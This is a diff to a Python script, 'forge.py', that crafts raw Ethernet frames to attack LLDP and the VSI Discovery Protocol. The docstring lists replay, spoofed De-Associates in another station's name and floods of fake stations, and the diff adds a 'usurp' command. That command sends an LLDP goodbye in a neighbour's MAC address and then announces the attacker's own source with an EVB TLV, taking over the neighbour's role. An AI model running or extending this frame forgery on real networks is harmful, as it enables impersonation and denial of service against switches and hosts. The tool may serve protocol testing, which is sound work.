@@ -5,7 +5,8 @@
   forge.py replay IF FILE                     all of them again; says how many
   forge.py deassociate IF SOURCE VSI COUNT    plain De-Associates of the whole VSI, in SOURCE's name
   forge.py hellos IF COUNT                    capabilities of as many stations that do not exist
-  forge.py lldp IF SOURCE TTL [EVB]           an LLDP frame, with the EVB TLV's five octets if given
+  forge.py usurp IF NEIGHBOUR SOURCE TTL EVB  LLDP: goodbye in the neighbour's name and, before it speaks again, one of SOURCE
+                                              with the EVB TLV's five octets
 """
 import random
 import socket
@@ -66,6 +67,11 @@ def hellos(interface, count):
         wire.send(GROUP + source + struct.pack("!H", ETHERTYPE) + HEAD + struct.pack("!H", number & 0xFFFF) + vdpdu)
 
 
+def usurp(interface, neighbour, source, ttl, evb):
+    lldp(interface, neighbour, 0)
+    lldp(interface, source, ttl, evb)
+
+
 def lldp(interface, source, ttl, evb=""):
     mac = bytes.fromhex(source.replace(":", ""))
 
@@ -77,4 +83,4 @@ def lldp(interface, source, ttl, evb=""):
     wire_of(interface).send((GROUP + mac + bytes.fromhex("88cc") + names + ours + bytes(2)).ljust(60, b"\0"))
 
 
-{"record": record, "replay": replay, "deassociate": deassociate, "hellos": hellos, "lldp": lldp}[sys.argv[1]](*sys.argv[2:])
+{"record": record, "replay": replay, "deassociate": deassociate, "hellos": hellos, "usurp": usurp}[sys.argv[1]](*sys.argv[2:])
